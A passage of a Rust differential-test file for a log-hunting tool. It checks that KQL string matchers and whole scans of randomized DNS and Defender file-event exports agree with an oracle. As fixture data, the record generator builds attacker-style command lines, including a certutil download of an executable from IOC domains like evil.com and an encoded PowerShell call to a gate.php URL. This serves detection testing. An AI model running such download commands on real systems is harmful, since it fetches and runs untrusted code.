//! Differential tests: on randomized records (with JSON escapes, odd case, boundary characters,
//! nested objects, malformed lines) and randomized rules, the fast path (`prefilter: true`) and
//! the plain evaluator (`prefilter: false`) return identical hits and counts, at every thread
//! count and chunk size — and both agree with an independent oracle ([`oracle`]).
//!
//! Four layers:
//! 1. the string matchers of `loghunt::plan::text` against the oracle's naive `has`, `contains`,
//!    `startswith`, `endswith`, `==`/`=~`, `in`/`in~`, on haystacks and needles from a small
//!    alphabet that puts term boundaries, case and non-ASCII letters everywhere;
//! 2. whole scans: random `DnsEvents` / `DeviceFileEvents` exports (JSON lines with LF or CRLF,
//!    JSON arrays pretty or compact) and random `.kql` rules, scanned with the prefilter on and
//!    off, on one and two threads, in chunks of 1 and 97 bytes and 8 MiB: hits (positions and
//!    rows) and record / match / malformed counts must not change;
//! 3. the same scans against the oracle, which decodes the records from the generator's own model
//!    (not by parsing the bytes loghunt parsed) and evaluates the rules' predicate trees directly;
//! 4. hand-written records that each hide a match from, or fake one for, a raw-byte search, with
//!    the hits worked out by hand.
//!
//! Until the fast path exists both runs take the plain path; the tests are meant to catch an
//! unsound prefilter (one blind to `\u002e`, `\/`, case, negation, nested keys, duplicate keys,
//! or malformed records) the day it lands.
//!
//! Every test derives its cases from a seed and prints it on failure. To replay or widen a run:
//! `LOGHUNT_DIFF_SEED=<seed> LOGHUNT_DIFF_CASES=<n> cargo test --test differential`.

mod oracle;

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use loghunt::input::LogFile;
use loghunt::plan::text::{StringSet, SubstringKind, SubstringTest, TermSet};
use loghunt::plan::Plan;
use loghunt::rules::load_text;
use loghunt::scan::{scan, Malformed, Position, ScanOptions, TableCount};
use loghunt::time::parse_datetime;
use loghunt::value::Value;
use oracle::{Cell, Cmp, Op, OrderKey, Pred, Rng, Test};
use serde_json::Value as Json;

const NOW: &str = "2026-06-21T00:00:00Z";

/// The seed of a test: `LOGHUNT_DIFF_SEED` (decimal or `0x` hex) if set, else the test's own.
fn seed(default: u64) -> u64 {
    match std::env::var("LOGHUNT_DIFF_SEED") {
        Ok(text) => {
            let text = text.trim();
            let parsed = match text.strip_prefix("0x") {
                Some(hex) => u64::from_str_radix(hex, 16),
                None => text.parse(),
            };
            parsed.unwrap_or_else(|_| panic!("LOGHUNT_DIFF_SEED={text:?} is not a number"))
        }
        Err(_) => default,
    }
}

/// How many random cases a test runs: `LOGHUNT_DIFF_CASES` if set. The defaults keep a debug
/// `cargo test` well under ten seconds on two cores.
fn cases(default: usize) -> usize {
    std::env::var("LOGHUNT_DIFF_CASES")
        .ok()
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(default)
}

/// Runs a test's cases, case `i` on its own RNG seeded with the test's seed plus `i`, so that a
/// failing case replays alone: its message names the seed to set.
fn for_each_case(test: &str, default_seed: u64, default_count: usize, mut check: impl FnMut(&mut Rng, &str)) {
    let base = seed(default_seed);
    for i in 0..cases(default_count) {
        let case_seed = base.wrapping_add(i as u64);
        let context = format!(
            "case seed {case_seed:#x} (replay: LOGHUNT_DIFF_SEED={case_seed:#x} LOGHUNT_DIFF_CASES=1 \
             cargo test --test differential {test})"
        );
        check(&mut Rng::new(case_seed), &context);
    }
}

// ====================================================================================
// 1. The string matchers against the naive oracle
// ====================================================================================

/// Letters in both cases (case folding), a digit (term character), the separators Kusto
/// treats specially in real data (`.`, `-`, `_`, `\`, space) and non-ASCII letters, which are
/// separators and never case-folded. `a` is frequent so that needles overlap and repeat.
const ALPHABET: &[char] = &[
    'a', 'a', 'a', 'A', 'B', 'b', '0', '.', '.', '-', '_', '\\', ' ', 'é', 'É', 'ß',
];

/// Needles picked for overlap and boundary trouble (`aa` in `aaa.aa`).
const TRICKY_NEEDLES: &[&str] = &[
    "aa", "a", "aa.", "a.a", ".aa", "", "aaa", "a a", "0", "B0", "é", "ß", "\\", "A.", "-a", "_", "aA", "é.",
];

const TRICKY_HAYSTACKS: &[&str] = &[
    "aaa.aa", "aa aaa", "aaaa", "a.a.a", "éaaé", "AAA-aa", "_aa_", "\\aa\\", "",
];

fn random_text(rng: &mut Rng, max_len: usize) -> String {
    if rng.percent(10) {
        return rng.pick(TRICKY_HAYSTACKS).to_string();
    }
    let len = rng.range(0, max_len);
    (0..len).map(|_| *rng.pick(ALPHABET)).collect()
}

/// A needle likely to occur in `haystack`: a slice of it with random case flips, sometimes
/// grown by a character; or a tricky fixed needle; or random text.
fn random_needle(rng: &mut Rng, haystack: &str) -> String {
    let h: Vec<char> = haystack.chars().collect();
    match rng.below(10) {
        0..=4 if !h.is_empty() => {
            let start = rng.below(h.len());
            let end = rng.range(start, h.len());
            let mut needle: String = h[start..end]
                .iter()
                .map(|c| {
                    if rng.percent(30) {
                        if c.is_ascii_lowercase() {
                            c.to_ascii_uppercase()
                        } else {
                            c.to_ascii_lowercase()
                        }
                    } else {
                        *c
                    }
                })
                .collect();
            if rng.percent(20) {
                needle.push(*rng.pick(ALPHABET));
            }
            needle
        }
        5..=7 => rng.pick(TRICKY_NEEDLES).to_string(),
        _ => random_text(rng, 4),
    }
}

#[test]
fn has_and_has_cs_follow_the_term_rule() {
    for_each_case(
        "has_and_has_cs_follow_the_term_rule",
        0x4A5_0000,
        4000,
        |rng, context| {
            let haystack = random_text(rng, 12);
            let needle = random_needle(rng, &haystack);
            let cs = rng.percent(30);
            let set = TermSet::new([needle.as_str()], cs);
            let expected = oracle::has(&haystack, &needle, cs);
            let op = if cs { "has_cs" } else { "has" };
            assert_eq!(
                set.matches_any(&haystack),
                expected,
                "{context}: {haystack:?} {op} {needle:?} (matches_any)"
            );
            assert_eq!(
                set.matches_all(&haystack),
                expected,
                "{context}: {haystack:?} {op} {needle:?} (matches_all of one needle)"
            );
        },
    );
}

#[test]
fn has_any_and_has_all_over_sets_follow_the_term_rule() {
    for_each_case(
        "has_any_and_has_all_over_sets_follow_the_term_rule",
        0x4A5_1000,
        3000,
        |rng, context| {
            let haystack = random_text(rng, 14);
            let count = rng.range(0, 4);
            let mut needles: Vec<String> = (0..count).map(|_| random_needle(rng, &haystack)).collect();
            // Repeated needles, and the same needle in another case, must each be found.
            if !needles.is_empty() && rng.percent(20) {
                let again = needles[rng.below(needles.len())].to_ascii_uppercase();
                needles.push(again);
            }
            let cs = rng.percent(25);
            let set = TermSet::new(&needles, cs);
            let (any, all) = (
                oracle::has_any(&haystack, &needles, cs),
                oracle::has_all(&haystack, &needles, cs),
            );
            assert_eq!(
                set.matches_any(&haystack),
                any,
                "{context}: {haystack:?} has_any {needles:?} (case-sensitive {cs})"
            );
            assert_eq!(
                set.matches_all(&haystack),
                all,
                "{context}: {haystack:?} has_all {needles:?} (case-sensitive {cs})"
            );
        },
    );
}

#[test]
fn contains_startswith_endswith_equals_follow_the_oracle() {
    let kinds = [
        SubstringKind::Contains,
        SubstringKind::StartsWith,
        SubstringKind::EndsWith,
        SubstringKind::Equals,
    ];
    for_each_case(
        "contains_startswith_endswith_equals_follow_the_oracle",
        0x4A5_2000,
        4000,
        |rng, context| {
            let haystack = random_text(rng, 10);
            let needle = if rng.percent(15) {
                haystack.to_ascii_uppercase()
            } else {
                random_needle(rng, &haystack)
            };
            let kind = *rng.pick(&kinds);
            let cs = rng.percent(50);
            let expected = match kind {
                SubstringKind::Contains => oracle::contains(&haystack, &needle, cs),
                SubstringKind::StartsWith => oracle::starts_with(&haystack, &needle, cs),
                SubstringKind::EndsWith => oracle::ends_with(&haystack, &needle, cs),
                SubstringKind::Equals => oracle::equals(&haystack, &needle, cs),
            };
            assert_eq!(
                SubstringTest::new(kind, &needle, cs).matches(&haystack),
                expected,
                "{context}: {haystack:?} {kind:?} {needle:?} (case-sensitive {cs})"
            );
        },
    );
}

#[test]
fn in_and_in_tilde_follow_the_oracle() {
    for_each_case("in_and_in_tilde_follow_the_oracle", 0x4A5_3000, 4000, |rng, context| {
        let haystack = random_text(rng, 6);
        let count = rng.range(0, 4);
        let needles: Vec<String> = (0..count)
            .map(|_| match rng.below(3) {
                0 => haystack.to_ascii_uppercase(),
                1 => haystack.to_ascii_lowercase(),
                _ => random_needle(rng, &haystack),
            })
            .collect();
        let cs = rng.percent(50);
        let set = StringSet::new(needles.iter().cloned(), cs);
        let op = if cs { "in" } else { "in~" };
        assert_eq!(
            set.contains(&haystack),
            oracle::in_list(&haystack, &needles, cs),
            "{context}: {haystack:?} {op} {needles:?}"
        );
    });
}

// ====================================================================================
// 2. Random exports and rules
// ====================================================================================

/// What a column holds, which decides both its random values and the needles rules look for
/// in it, so that rules hit often enough for the comparison to mean something.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Domain,
    Host,
    Ip,
    QueryType,
    Sha256,
    Sha1,
    Md5,
    File,
    Path,
    Cmd,
    Additional,
    /// The datetime column: compared with `datetime(...)`, never string-tested.
    Time,
}

/// The kinds of string columns.
const KINDS: &[Kind] = &[
    Kind::Domain,
    Kind::Host,
    Kind::Ip,
    Kind::QueryType,
    Kind::Sha256,
    Kind::Sha1,
    Kind::Md5,
    Kind::File,
    Kind::Path,
    Kind::Cmd,
    Kind::Additional,
];

#[derive(Debug, PartialEq, Eq)]
struct TableSpec {
    name: &'static str,
    /// The datetime column, projected and ordered by but never string-tested.
    time: &'static str,
    /// The string columns rules test, and what they hold.
    columns: &'static [(&'static str, Kind)],
}

static DNS: TableSpec = TableSpec {
    name: "DnsEvents",
    time: "TimeGenerated",
    columns: &[
        ("Computer", Kind::Host),
        ("Name", Kind::Domain),
        ("IPAddresses", Kind::Ip),
        ("QueryType", Kind::QueryType),
        ("ClientIP", Kind::Ip),
    ],
};

static DFE: TableSpec = TableSpec {
    name: "DeviceFileEvents",
    time: "Timestamp",
    columns: &[
        ("DeviceName", Kind::Host),
        ("FileName", Kind::File),
        ("FolderPath", Kind::Path),
        ("SHA1", Kind::Sha1),
        ("SHA256", Kind::Sha256),
        ("MD5", Kind::Md5),
        ("InitiatingProcessFileName", Kind::File),
        ("InitiatingProcessCommandLine", Kind::Cmd),
        ("AdditionalFields", Kind::Additional),
    ],
};

const DOMAINS: &[&str] = &[
    "spapro.co.com",
    "moocow.my",
    "www.mobile1.com",
    "bad-domain.org",
    "x_y.example",
    "café.example",
    "straße.de",
    "a1.b2",
    "evil.com",
];
const BENIGN_DOMAINS: &[&str] = &[
    "microsoft.com",
    "login.live.com",
    "contoso.local",
    "moocow.mystery.net",
    "co.com",
];
const DOMAIN_PREFIXES: &[&str] = &[
    "", "", "", "", "a.", "www.", "my", "x_", "x-", "9", "cdn.", ".", "é", "A",
];
const DOMAIN_SUFFIXES: &[&str] = &[
    "",
    "",
    "",
    "",
    ".",
    "x",
    "2",
    "munity",
    "-cdn.net",
    "_",
    ":443",
    "/gate.php",
    " ",
    "é",
];
/// Needles for domain columns: the IOCs, and their parts and variants that start or end with
/// a separator, are upper-case, or contain `/`.
const DOMAIN_NEEDLES: &[&str] = &[
    "spapro.co.com",
    "moocow.my",
    "www.mobile1.com",
    "bad-domain.org",
    "x_y.example",
    "café.example",
    "straße.de",
    "a1.b2",
    "evil.com",
    "SPAPRO.CO.COM",
    "MooCow.MY",
    "CAFÉ.EXAMPLE",
    "STRASSE.DE",
    "moocow",
    ".my",
    "co.com",
    "moocow.",
    "-cdn",
    "mobile1",
    "x_y",
    "evil.com.",
    "http://moocow.my/",
    "/gate.php",
    "A1.B2",
    "y.example",
    "my",
];
const IPS: &[&str] = &["10.0.0.5", "185.220.101.4", "1.2.3.4", "2001:db8::1"];
const BENIGN_IPS: &[&str] = &["1.2.3.45", "11.2.3.4", "192.168.1.1", "10.0.0.50"];
/// Needles found only in the text a non-string JSON value reads as (`1.0e2` reads `100.0`,
/// `true` reads `true`), never in the raw bytes of the record.
const RENDERED_NEEDLES: &[&str] = &["100.0", "-0.0", "true", "123", "e20", "0.5"];
const IP_NEEDLES: &[&str] = &[
    "10.0.0.5",
    "185.220.101.4",
    "1.2.3.4",
    "2001:db8::1",
    "1.2.3",
    ".4",
    "185.220.",
    "::1",
];
const QUERY_TYPES: &[&str] = &["A", "AAAA", "MX", "TXT", "a", "Aaaa", "CNAME", "A "];
const QUERY_TYPE_NEEDLES: &[&str] = &["A", "AAAA", "aaaa", "MX", "a", "TXT", "A "];
const HOSTS: &[&str] = &[
    "dc01.contoso.local",
    "WS-042.contoso.local",
    "laptop_ß",
    "host-moocow.my",
    "SRV\\01",
    "evil.com",
];
const HOST_NEEDLES: &[&str] = &[
    "dc01.contoso.local",
    "WS-042.contoso.local",
    "host-moocow.my",
    "SRV\\01",
    "contoso.local",
    "WS-042",
    "dc01",
    "laptop_ß",
    "LAPTOP",
    "moocow.my",
    "\\01",
    "srv",
];
const FILE_NAMES: &[&str] = &[
    "evil.exe",
    "EVIL.EXE",
    "notevil.exe",
    "evil.exe.txt",
    "svchost.exe",
    "gate.php",
    "café.dll",
    "a b.ps1",
    "powershell.exe",
    "PowerShell.EXE",
    "certutil.exe",
];
const FOLDERS: &[&str] = &[
    "C:\\Users\\Bob\\AppData\\Local\\Temp\\",
    "C:\\Windows\\System32\\",
    "/tmp/",
    "\\\\server\\share\\moocow.my\\",
    "C:\\ProgramData\\évil\\",
    "c:\\users\\bob\\appdata\\local\\temp\\",
];
const PATH_NEEDLES: &[&str] = &[
    "\\Temp\\",
    "AppData",
    "C:\\Users",
    "/tmp/",
    "gate.php",
    "evil.exe",
    ".exe",
    "System32\\",
    "-enc",
    "powershell",
    "POWERSHELL.EXE",
    "évil",
    "\\\\server",
    "\"",
    "http://",
    "a b.ps1",
    "\t&",
    "\"SHA256\":\"",
    "\\",
    "/",
];

fn random_hex(rng: &mut Rng, len: usize) -> String {
    (0..len)
        .map(|_| char::from(b"0123456789abcdef"[rng.below(16)]))
        .collect()
}

/// The IOCs of one case: a few of the domains and vocab, which its records and its rules
/// both draw from most of the time, so that rules hit often enough to mean something.
struct Vocab {
    domains: Vec<&'static str>,
    sha256: Vec<String>,
    sha1: Vec<String>,
    md5: Vec<String>,
}

impl Vocab {
    fn new(rng: &mut Rng) -> Vocab {
        // The hashes are fixed (from a constant seed), so every case and run share them.
        let mut fixed = Rng::new(0x1C0_C0FFEE);
        let mut pool = |len: usize, rng: &mut Rng| {
            let mut all: Vec<String> = (0..3).map(|_| random_hex(&mut fixed, len)).collect();
            rng.shuffle(&mut all);
            all.truncate(rng.range(1, 2));
            all
        };
        let (sha256, sha1, md5) = (pool(64, rng), pool(40, rng), pool(32, rng));
        let mut domains = DOMAINS.to_vec();
        rng.shuffle(&mut domains);
        domains.truncate(rng.range(2, 3));
        Vocab {
            domains,
            sha256,
            sha1,
            md5,
        }
    }

    fn hashes(&self, kind: Kind) -> &[String] {
        match kind {
            Kind::Sha1 => &self.sha1,
            Kind::Md5 => &self.md5,
            _ => &self.sha256,
        }
    }

    /// A domain IOC: usually one of this case's, sometimes any.
    fn domain(&self, rng: &mut Rng) -> &'static str {
        if rng.percent(75) {
            rng.pick_copy(&self.domains)
        } else {
            rng.pick_copy(DOMAINS)
        }
    }
}

/// Random ASCII case: as is, upper, lower, or mixed letter by letter.
fn odd_case(rng: &mut Rng, text: &str) -> String {
    match rng.below(8) {
        0 => text.to_ascii_uppercase(),
        1 => text.to_ascii_lowercase(),
        2 => text
            .chars()
            .map(|c| {
                if rng.percent(50) {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect(),
        _ => text.to_string(),
    }
}

fn domain_value(rng: &mut Rng, vocab: &Vocab) -> String {
    let base = if rng.percent(80) {
        vocab.domain(rng)
    } else {
        rng.pick(BENIGN_DOMAINS)
    };
    // Often bare, so that `==` and `in` can hit; otherwise glued or separated on either side.
    let prefix = if rng.percent(55) { "" } else { rng.pick(DOMAIN_PREFIXES) };
    let suffix = if rng.percent(55) { "" } else { rng.pick(DOMAIN_SUFFIXES) };
    let mut value = format!("{prefix}{base}{suffix}");
    if rng.percent(5) {
        value.pop();
    }
    odd_case(rng, &value)
}

/// An IOC hash as data holds it: exact, upper-cased, padded, truncated, prefixed, or another
/// hash of the same length.
fn hash_value(rng: &mut Rng, vocab: &Vocab, kind: Kind) -> String {
    let pool = vocab.hashes(kind);
    let hash = if rng.percent(75) {
        rng.pick(pool).clone()
    } else {
        random_hex(rng, pool[0].len())
    };
    match rng.below(20) {
        0..=1 => hash.to_ascii_uppercase(),
        2 => format!("{hash} "),
        3 => format!(" {hash}"),
        4 => hash[..hash.len() - 1].to_string(),
        5 => format!("sha:{hash}"),
        6 => odd_case(rng, &hash),
        _ => hash,
    }
}

fn command_line(rng: &mut Rng, vocab: &Vocab) -> String {
    let domain = domain_value(rng, vocab);
    let folder = rng.pick(FOLDERS);
    let file = rng.pick(FILE_NAMES);
    match rng.below(5) {
        0 => format!("{} -enc SQBFAFgA http://{domain}/gate.php", rng.pick(FILE_NAMES)),
        1 => format!("\"{folder}{file}\" --hash={}", hash_value(rng, vocab, Kind::Sha256)),
        2 => format!("certutil -urlcache -f https://{domain}/x.exe {folder}{file}"),
        3 => format!("cmd.exe /c \"echo {domain}\"\t& exit"),
        _ => format!(
            "{folder}{file} {{\"SHA256\":\"{}\"}}",
            hash_value(rng, vocab, Kind::Sha256)
        ),
    }
}

/// One JSON value as the generator means it. The oracle reads string columns from this model,
/// not from the bytes loghunt parses, so a decoding bug cannot hide on both sides.
#[derive(Debug, Clone)]
enum Field {
    Str(String),
    Null,
    /// Any other JSON value, as literal text: numbers, booleans, arrays.
    Raw(String),
    /// A real nested object, which may hold keys named like the table's columns.
    Obj(Vec<(String, Field)>),
}

impl Field {
    /// The value as serde_json holds it, for the text of a non-string value in a string column.
    fn to_json(&self) -> Json {
        match self {
            Field::Str(s) => Json::String(s.clone()),
            Field::Null => Json::Null,
            Field::Raw(text) => serde_json::from_str(text).expect("raw fields are valid JSON"),
            Field::Obj(members) => Json::Object(members.iter().map(|(k, v)| (k.clone(), v.to_json())).collect()),
        }
    }

    /// What a string operator sees: the string itself; `""` for null (Kusto strings are never
    /// null); other values as their compact JSON text (README, Tables: "strings excepted: they
    /// read as their JSON text").
    fn text(&self) -> String {
        match self {
            Field::Str(s) => s.clone(),
            Field::Null => String::new(),
            other => other.to_json().to_string(),
        }
    }
}

/// A record as written: members in order, duplicates allowed (the last one wins, as in
/// serde_json's map).
#[derive(Debug, Clone)]
struct Record {
    members: Vec<(String, Field)>,
}

impl Record {
    fn get(&self, key: &str) -> Option<&Field> {
        self.members.iter().rev().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    fn text(&self, column: &str) -> String {
        self.get(column).map_or_else(String::new, Field::text)
    }

    /// A datetime column's value: a string that parses, else null.
    fn datetime(&self, column: &str) -> Option<i64> {
        match self.get(column) {
            Some(Field::Str(s)) => parse_datetime(s),
            _ => None,
        }
    }
}

/// A value of a string column of this kind: usually a string, sometimes null, empty, a number,
/// a boolean, or an array — the last three read as their JSON text.
fn field_value(rng: &mut Rng, vocab: &Vocab, kind: Kind) -> Field {
    match rng.below(100) {
        0..=5 => return Field::Null,
        6..=8 => return Field::Str(String::new()),
        9..=11 => {
            let raw = *rng.pick(&[
                "123",
                "1.0e2",
                "-0",
                "true",
                "[\"moocow.my\"]",
                "[\"moocow\\u002emy\"]",
                "{\"Name\":\"moocow.my\"}",
                "123456789012345678901",
                "0.5",
            ]);
            return Field::Raw(raw.to_string());
        }
        _ => {}
    }
    let text = match kind {
        Kind::Domain => domain_value(rng, vocab),
        Kind::Host => {
            if rng.percent(70) {
                let host = *rng.pick(HOSTS);
                odd_case(rng, host)
            } else {
                domain_value(rng, vocab)
            }
        }
        Kind::Ip => match rng.below(4) {
            0 => rng.pick(BENIGN_IPS).to_string(),
            1 => format!("{};{}", rng.pick(IPS), rng.pick(BENIGN_IPS)),
            2 => format!("{}; {}", rng.pick(BENIGN_IPS), rng.pick(IPS)),
            _ => rng.pick(IPS).to_string(),
        },
        Kind::QueryType => rng.pick(QUERY_TYPES).to_string(),
        Kind::Sha256 | Kind::Sha1 | Kind::Md5 => hash_value(rng, vocab, kind),
        Kind::File => rng.pick(FILE_NAMES).to_string(),
        Kind::Path => format!("{}{}", rng.pick(FOLDERS), rng.pick(FILE_NAMES)),
        Kind::Cmd => command_line(rng, vocab),
        Kind::Time => unreachable!("datetime columns are generated by time_value"),
        Kind::Additional => {
            // Defender's AdditionalFields: JSON text inside a string, so every quote is escaped
            // in the export; or (below) a real object with the same key names.
            if rng.percent(30) {
                return Field::Obj(nested_object(rng, vocab));
            }
            format!(
                "{{\"FileType\":\"PortableExecutable\",\"SHA256\":\"{}\",\"Url\":\"http://{}/\"}}",
                hash_value(rng, vocab, Kind::Sha256),
                domain_value(rng, vocab)
            )
        }
    };
    Field::Str(text)
}

/// A nested object whose keys are column names (`SHA256`, `Name`, ...) and whose values are
/// IOCs: a raw-byte search for `"SHA256":"<ioc>"` finds them, but they are not the columns.
fn nested_object(rng: &mut Rng, vocab: &Vocab) -> Vec<(String, Field)> {
    let mut members = vec![
        ("SHA256".to_string(), Field::Str(hash_value(rng, vocab, Kind::Sha256))),
        ("Name".to_string(), Field::Str(domain_value(rng, vocab))),
        (
            "Nested".to_string(),
            Field::Obj(vec![
                ("SHA1".to_string(), Field::Str(hash_value(rng, vocab, Kind::Sha1))),
                ("MD5".to_string(), Field::Str(hash_value(rng, vocab, Kind::Md5))),
                ("Computer".to_string(), Field::Str(rng.pick(HOSTS).to_string())),
            ]),
        ),
        ("ClientIP".to_string(), Field::Str(rng.pick(IPS).to_string())),
    ];
    rng.shuffle(&mut members);
    members
}

/// Datetimes from a small set, so that `order by` meets ties (including the same instant
/// written two ways), plus ones that read as null.
fn time_value(rng: &mut Rng) -> Option<Field> {
    const TIMES: &[&str] = &[
        "2026-05-27T08:01:05Z",
        "2026-05-27T08:01:05.0000000Z",
        "2026-05-27T08:01:05.5Z",
        "2026-05-27T08:01:05.1234567Z",
        "2026-05-26T23:59:59Z",
        "2026-05-28 10:00:00",
        "2026-05-27T09:01:05+01:00",
        "2026-06-01T00:00:00Z",
    ];
    Some(match rng.below(20) {
        0 => return None,
        1 => Field::Null,
        2 => Field::Str("not a date".to_string()),
        3 => Field::Raw("1716796865".to_string()),
        _ => Field::Str(rng.pick(TIMES).to_string()),
    })
}

/// How a record is spelled: how often characters are `\u` escapes, and where white space goes.
#[derive(Debug, Clone)]
struct Style {
    escape_percent: u32,
    key_escape_percent: u32,
    space_percent: u32,
    /// For pretty-printed array elements: the newline to use.
    newline: Option<&'static str>,
}

fn random_style(rng: &mut Rng, pretty: Option<&'static str>) -> Style {
    Style {
        escape_percent: *rng.pick(&[0, 0, 3, 10, 40]),
        key_escape_percent: *rng.pick(&[0, 0, 0, 5, 30]),
        space_percent: *rng.pick(&[0, 50, 100]),
        newline: pretty,
    }
}

fn unicode_escape(rng: &mut Rng, c: char, out: &mut Vec<u8>) {
    let mut units = [0u16; 2];
    for unit in c.encode_utf16(&mut units) {
        let hex = format!("{unit:04x}");
        let hex = if rng.percent(50) { hex.to_ascii_uppercase() } else { hex };
        out.extend_from_slice(b"\\u");
        out.extend_from_slice(hex.as_bytes());
    }
}

/// Writes a JSON string by hand, choosing per character between the raw character, its short
/// escape (`\"`, `\\`, `\/`, `\t`, ...) and a `\uXXXX` escape (surrogate pairs beyond the BMP).
fn write_string(rng: &mut Rng, text: &str, escape_percent: u32, out: &mut Vec<u8>) {
    out.push(b'"');
    for c in text.chars() {
        let must = matches!(c, '"' | '\\') || (c as u32) < 0x20;
        if must || rng.percent(escape_percent) {
            let short: Option<&[u8]> = match c {
                '"' => Some(b"\\\""),
                '\\' => Some(b"\\\\"),
                '/' => Some(b"\\/"),
                '\t' => Some(b"\\t"),
                '\n' => Some(b"\\n"),
                '\r' => Some(b"\\r"),
                '\u{8}' => Some(b"\\b"),
                '\u{c}' => Some(b"\\f"),
                _ => None,
            };
            match short {
                Some(escape) if rng.percent(70) => out.extend_from_slice(escape),
                _ => unicode_escape(rng, c, out),
            }
        } else if c == '/' && rng.percent(25) {
            out.extend_from_slice(b"\\/");
        } else {
            let mut buf = [0u8; 4];
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
        }
    }
    out.push(b'"');
}

fn write_field(rng: &mut Rng, field: &Field, style: &Style, indent: usize, out: &mut Vec<u8>) {
    match field {
        Field::Str(s) => write_string(rng, s, style.escape_percent, out),
        Field::Null => out.extend_from_slice(b"null"),
        Field::Raw(text) => out.extend_from_slice(text.as_bytes()),
        Field::Obj(members) => write_object(rng, members, style, indent + 1, out),
    }
}

fn write_object(rng: &mut Rng, members: &[(String, Field)], style: &Style, indent: usize, out: &mut Vec<u8>) {
    out.push(b'{');
    for (i, (key, value)) in members.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        match style.newline {
            Some(newline) => {
                out.extend_from_slice(newline.as_bytes());
                out.extend(std::iter::repeat_n(b' ', 2 * (indent + 1)));
            }
            None if rng.percent(style.space_percent) => out.push(b' '),
            None => {}
        }
        write_string(rng, key, style.key_escape_percent, out);
        if rng.percent(3) {
            out.push(b' ');
        }
        out.push(b':');
        if rng.percent(style.space_percent) {
            out.push(if rng.percent(90) { b' ' } else { b'\t' });
        }
        write_field(rng, value, style, indent, out);
    }
    if let (Some(newline), false) = (style.newline, members.is_empty()) {
        out.extend_from_slice(newline.as_bytes());
        out.extend(std::iter::repeat_n(b' ', 2 * indent));
    }
    out.push(b'}');
}

/// Which table a generated file holds, which decides its records and its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum FileTable {
    /// Log Analytics rows, each with its own `Type`; the file name names no table.
    Dns,
    /// Defender rows without `Type`, in a path that names `DeviceFileEvents`.
    Dfe,
}

fn dns_record(rng: &mut Rng, vocab: &Vocab) -> Record {
    let mut members: Vec<(String, Field)> = Vec::new();
    // The row's own Type decides its table; a few name another table, or this one in the
    // wrong case (an unknown table: Kusto table names are case-sensitive).
    let ty = match rng.below(25) {
        0 => "dnsevents",
        1 => "Syslog",
        2 => "SecurityEvent",
        3 => "DeviceFileEvents",
        _ => "DnsEvents",
    };
    members.push(("Type".into(), Field::Str(ty.into())));
    if let Some(time) = time_value(rng) {
        members.push(("TimeGenerated".into(), time));
    }
    for &(column, kind) in DNS.columns {
        if !rng.percent(6) {
            members.push((column.into(), field_value(rng, vocab, kind)));
        }
    }
    let code = match rng.below(4) {
        0 => Field::Str("3".into()),
        1 => Field::Null,
        _ => Field::Raw(rng.pick(&["0", "3", "2.0"]).to_string()),
    };
    members.push(("ResultCode".into(), code));
    if rng.percent(30) {
        members.push(("SourceSystem".into(), Field::Str("OpsManager".into())));
    }
    if rng.percent(20) {
        // Not a DnsEvents column: loghunt must ignore it, keys named like columns included.
        members.push(("Properties".into(), Field::Obj(nested_object(rng, vocab))));
    }
    finish_members(rng, vocab, members, &DNS)
}

fn dfe_record(rng: &mut Rng, vocab: &Vocab) -> Record {
    let mut members: Vec<(String, Field)> = Vec::new();
    match rng.below(25) {
        0 => members.push(("Type".into(), Field::Str("DnsEvents".into()))),
        1 => members.push(("Type".into(), Field::Str("DeviceFileEvents".into()))),
        2 => members.push(("Type".into(), Field::Null)),
        3 => members.push(("Type".into(), Field::Str("DeviceEvents".into()))),
        _ => {}
    }
    if let Some(time) = time_value(rng) {
        members.push(("Timestamp".into(), time));
    }
    for &(column, kind) in DFE.columns {
        if !rng.percent(6) {
            members.push((column.into(), field_value(rng, vocab, kind)));
        }
    }
    let size = match rng.below(4) {
        0 => Field::Str("4096".into()),
        1 => Field::Null,
        _ => Field::Raw(rng.pick(&["4096", "0", "1e3"]).to_string()),
    };
    members.push(("FileSize".into(), size));
    if rng.percent(40) {
        members.push(("ActionType".into(), Field::Str("FileCreated".into())));
    }
    finish_members(rng, vocab, members, &DFE)
}

/// Shuffles the key order, and sometimes repeats a column with another value (the last one
/// is the column's value).
fn finish_members(rng: &mut Rng, vocab: &Vocab, mut members: Vec<(String, Field)>, table: &TableSpec) -> Record {
    if rng.percent(50) {
        rng.shuffle(&mut members);
    }
    if rng.percent(5) {
        let &(column, kind) = rng.pick(table.columns);
        let at = rng.range(0, members.len());
        members.insert(at, (column.into(), field_value(rng, vocab, kind)));
    }
    Record { members }
}

/// A record loghunt must count as malformed. `balanced` ones keep braces and quotes balanced,
/// so that a JSON array's element framing still finds the next element.
fn malformed_bytes(rng: &mut Rng, valid: &[u8], balanced: bool) -> Vec<u8> {
    let choice = if balanced { rng.range(1, 6) } else { rng.below(8) };
    match choice {
        0 => valid[..rng.range(1, valid.len() - 1)].to_vec(),
        1 => {
            // A trailing comma before the closing brace.
            let mut bytes = valid.to_vec();
            bytes.insert(bytes.len() - 1, b',');
            bytes
        }
        2 => b"not json at all".to_vec(),
        // Not an object. (A JSON-lines file must not start with `[`: that makes it an array.)
        3 if balanced => b"[\"moocow.my\"]".to_vec(),
        3 => b"\"moocow.my\"".to_vec(),
        4 => b"{\"Type\":\"DnsEvents\",\"Name\":\"\xffmoocow.my\"}".to_vec(),
        5 => b"{\"Type\":\"DnsEvents\",\"Name\":\"moocow.my\\x\"}".to_vec(),
        6 => b"{\"Type\":\"DnsEvents\",\"Name\":\"tab\there\"}".to_vec(),
        _ => b"{\"Type\":\"DnsEvents\",\"Name\":\"a\"".to_vec(),
    }
}

/// A record of a generated file, where loghunt must report it, and what it is.
#[derive(Debug, Clone)]
struct Placed {
    file: usize,
    offset: u64,
    line: u64,
    bytes: Vec<u8>,
    /// `None`: a malformed record.
    record: Option<Record>,
}

impl Placed {
    fn position(&self) -> Position {
        Position {
            file: self.file,
            offset: self.offset,
            line: self.line,
        }
    }
}

struct GeneratedFile {
    name: String,
    table: FileTable,
    bytes: Vec<u8>,
}

fn lines_in(bytes: &[u8]) -> u64 {
